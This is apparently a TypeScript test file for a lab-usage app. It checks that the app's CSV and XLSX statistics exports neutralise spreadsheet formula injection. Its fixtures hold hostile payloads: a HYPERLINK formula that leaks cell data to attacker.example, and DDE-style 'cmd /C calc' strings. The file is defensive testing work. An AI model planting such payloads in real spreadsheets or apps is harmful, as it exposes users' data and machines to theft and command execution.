// Text that members and managers type (material names and units, machine names) ends up in the
// department's spreadsheets. Opened in Excel or LibreOffice, a CSV cell that starts with =, +, -, @,
// a tab or a carriage return is read as a formula (OWASP "CSV injection"); the CSV neutralises
// such cells, and the XLSX keeps them as plain strings.
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestContext, fixedClock, type TestContext, type TestUser } from '../helpers/app.js';

const FORMULAS = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=1+1',
];

/** The cells of a CSV text (RFC 4180: quoted cells may hold commas, quotes and line breaks). */
function csvCells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

describe('spreadsheet exports carry no formulas', () => {
  let ctx: TestContext;
  let department: TestUser;

  beforeAll(async () => {
    ctx = await createTestContext({ clock: fixedClock('2026-06-01T08:00:00+07:00') });
    const lab = await ctx.createLab();
    const manager = await ctx.createUser({ role: 'manager', manages: [lab.id] });
    department = await ctx.createUser({ role: 'department' });
    const machine = await ctx.createMachine(lab.id, { name: '=HYPERLINK("http://attacker.example","Laser")' });
    for (const [i, formula] of FORMULAS.entries()) {
      const day = String(10 + i).padStart(2, '0');
      const res = await ctx.injectAs(manager, {
        method: 'POST',
        url: '/api/usage',
        payload: {
          machineId: machine.id,
          start: `2026-05-${day}T09:00:00+07:00`,
          end: `2026-05-${day}T10:00:00+07:00`,
          guest: { name: 'Khách', category: 'community' },
          materials: [{ material: formula, unit: formula.slice(0, 40), quantity: 1 }],
        },
      });
      expect(res.statusCode, res.body).toBe(201);
    }
  });
  afterAll(() => ctx?.close());

  it('CSV: no cell starts with =, +, -, @, a tab or a carriage return; the text is kept after a quote', async () => {
    const res = await ctx.injectAs(department, { method: 'GET', url: '/api/stats/monthly?month=2026-05&format=csv' });
    expect(res.statusCode).toBe(200);
    const cells = csvCells(res.body.replace(/^\uFEFF/, '')).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    for (const formula of FORMULAS) expect(cells).toContain(`'${formula}`);
    expect(cells).toContain(`'=HYPERLINK("http://attacker.example","Laser")`);
  });

  it('XLSX: the same text is a plain string cell, never a formula', async () => {
    const res = await ctx.injectAs(department, { method: 'GET', url: '/api/stats/monthly?month=2026-05&format=xlsx' });
    expect(res.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const texts: string[] = [];
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type, `${sheet.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
          if (cell.type === ExcelJS.ValueType.String) texts.push(cell.value as string);
        }),
      ),
    );
    for (const formula of FORMULAS) expect(texts).toContain(formula);
  });
});
